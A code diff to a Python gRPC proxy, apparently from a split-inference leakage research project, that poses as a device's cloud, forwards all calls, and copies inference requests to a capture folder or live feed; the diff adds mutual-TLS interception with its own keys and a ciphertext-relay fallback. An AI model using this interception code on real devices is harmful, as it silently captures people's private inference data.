@@ -2,7 +2,7 @@
 
 It listens where the device expects the cloud, forwards every RPC to the real cloud, and keeps a copy of every
 inference request in a capture (splitleak.core.capture), or sends it as it happens to a live consumer
-(splitleak.attacker.feed), or both.
+(splitleak.core.feed), or both.
 
 Each side gets what the other sent: messages are never parsed on the way through (the handlers take and return
 bytes); replies, status codes, details and metadata come back as the cloud sent them; the device's metadata (less
@@ -37,9 +37,11 @@ from pathlib import Path
 import grpc
 from grpc_health.v1 import health, health_pb2, health_pb2_grpc
 
-from splitleak.attacker.feed import FeedSender
+from splitleak.attacker.relay import CiphertextRelay
 from splitleak.core import process, serving, transport
 from splitleak.core.capture import CaptureSink, CaptureWriter
+from splitleak.core.feed import FeedSender
+from splitleak.core.tls import Tls, speaks_tls
 from splitleak.protos import inference_pb2 as pb
 
 _SERVICE = pb.DESCRIPTOR.services_by_name["GRPCInferenceService"]
@@ -80,14 +82,16 @@ class Proxy:
         host: str = "127.0.0.1",
         port: int = 0,
         limits: serving.Limits | None = None,
+        tls: Tls | None = None,
     ) -> None:
         self.cloud = cloud
+        self.tls = tls
         self.sink = sink
         self.host = host
         self.port = port  # the one it listens on, once started
         # Its refusals name the cloud: the device is not to tell the proxy from the cloud it stands in for.
         self.gate = serving.Gate(limits or serving.Limits(), log, "cloud")
-        self._forwarder = _Forwarder(cloud, sink, self.gate)
+        self._forwarder = _Forwarder(cloud, sink, self.gate, tls)
         self._loop = asyncio.new_event_loop()
         self._thread = threading.Thread(target=self._loop.run_forever, name="proxy", daemon=True)
 
@@ -117,7 +121,7 @@ class Proxy:
         health_pb2_grpc.add_HealthServicer_to_server(self._health, self._server)
         # Registered services (health) are looked up first; every other method falls through to the forwarder.
         self._server.add_generic_rpc_handlers((self._forwarder,))
-        port = serving.listen(self._server, self.host, self.port)
+        port = serving.listen(self._server, self.host, self.port, self.tls)
         await self._server.start()
         for name in ("", transport.SERVICE_NAME):
             await self._health.set(name, health_pb2.HealthCheckResponse.SERVING)
@@ -139,8 +143,9 @@ class Proxy:
 
 
 class _Forwarder(grpc.GenericRpcHandler):
-    def __init__(self, cloud: str, sink: CaptureSink, gate: serving.Gate) -> None:
+    def __init__(self, cloud: str, sink: CaptureSink, gate: serving.Gate, tls: Tls | None) -> None:
         self.cloud = cloud
+        self.tls = tls
         self.sink = sink
         self.gate = gate
         self.forwarded = 0  # request messages passed on to the cloud
@@ -198,9 +203,11 @@ class _Forwarder(grpc.GenericRpcHandler):
         """The channel to the cloud that carries this device connection's calls."""
         upstream = self._channels.get(peer)
         if upstream is None:
-            upstream = self._channels[peer] = _Upstream(
-                grpc.aio.insecure_channel(self.cloud, options=_UPSTREAM_OPTIONS)
-            )
+            if self.tls is None:
+                channel = grpc.aio.insecure_channel(self.cloud, options=_UPSTREAM_OPTIONS)
+            else:
+                channel = grpc.aio.secure_channel(self.cloud, self.tls.channel_credentials(), options=_UPSTREAM_OPTIONS)
+            upstream = self._channels[peer] = _Upstream(channel)
         upstream.enter()
         try:
             yield upstream.channel
@@ -400,6 +407,7 @@ def get_args_parser() -> argparse.ArgumentParser:
         "--queue", type=serving.positive_int, default=1024, help="requests waiting to be written before copies drop"
     )
     serving.Limits.add_arguments(parser)
+    Tls.add_arguments(parser, "proxy")
     return parser
 
 
@@ -407,6 +415,10 @@ def main(args: argparse.Namespace) -> int:
     if args.capture is None and args.feed is None:
         print("proxy: say where the captures go: --capture DIR, --feed HOST:PORT, or both", file=sys.stderr)
         return 2
+    tls = Tls.from_args(args, "proxy")
+    # Asked once, at the start: a cloud that speaks TLS to a proxy with no key the device trusts gets a relay of
+    # ciphertext, which is all such a man in the middle can be.
+    opaque = tls is None and speaks_tls(args.cloud) is True
     try:
         serving.check_port(args.host, args.listen_port)  # before the capture folder is made, so a retry finds none
     except OSError as e:
@@ -426,11 +438,14 @@ def main(args: argparse.Namespace) -> int:
     errors.setFormatter(logging.Formatter("proxy: %(message)s"))
     log.addHandler(errors)
     log.propagate = False
-    sink = CaptureSink(writer, maxsize=args.queue, on_capture=[feed] if feed else None)
-    proxy = Proxy(args.cloud, sink, host=args.host, port=args.listen_port, limits=serving.Limits.from_args(args))
     stop = threading.Event()
     for sig in (signal.SIGTERM, signal.SIGINT):
         signal.signal(sig, lambda *_: stop.set())
+    if opaque:
+        return _relay_ciphertext(args, writer or None, feed or None, stop)
+    sink = CaptureSink(writer, maxsize=args.queue, on_capture=[feed] if feed else None)
+    limits = serving.Limits.from_args(args)
+    proxy = Proxy(args.cloud, sink, host=args.host, port=args.listen_port, limits=limits, tls=tls)
     code = 0
     try:
         port = proxy.start()
@@ -439,7 +454,10 @@ def main(args: argparse.Namespace) -> int:
         code = 2
     else:
         taps = [f"capturing to {args.capture}"] * bool(args.capture) + [f"feeding {args.feed}"] * bool(args.feed)
-        print(f"proxy listening on {args.host}:{port} forwarding to {args.cloud}, {' and '.join(taps)}", flush=True)
+        wire = " over mutual TLS with keys of its own" if tls else ""
+        print(
+            f"proxy listening on {args.host}:{port} forwarding to {args.cloud}{wire}, {' and '.join(taps)}", flush=True
+        )
         stop.wait()
         proxy.stop()
     sink.close()
@@ -448,3 +466,26 @@ def main(args: argparse.Namespace) -> int:
         feed.close()
     print("proxy stopped: " + ", ".join(f"{k} {v}" for k, v in stats.items()), file=sys.stderr, flush=True)
     return code
+
+
+def _relay_ciphertext(
+    args: argparse.Namespace, writer: CaptureWriter | None, feed: FeedSender | None, stop: threading.Event
+) -> int:
+    relay = CiphertextRelay(args.cloud, writer, host=args.host, port=args.listen_port)
+    try:
+        port = relay.start()
+    except OSError as e:
+        print(f"proxy: {e}", file=sys.stderr)
+        return 2
+    print(
+        f"proxy listening on {args.host}:{port} relaying to {args.cloud}: the cloud speaks TLS and this proxy holds no "
+        f"key the device trusts, so it passes on ciphertext it cannot read"
+        + (f", keeping its counts and first bytes in {args.capture}" if writer else ""),
+        flush=True,
+    )
+    stop.wait()
+    relay.stop()
+    if feed:
+        feed.close()
+    print("proxy stopped: " + ", ".join(f"{k} {v}" for k, v in relay.stats.items()), file=sys.stderr, flush=True)
+    return 0
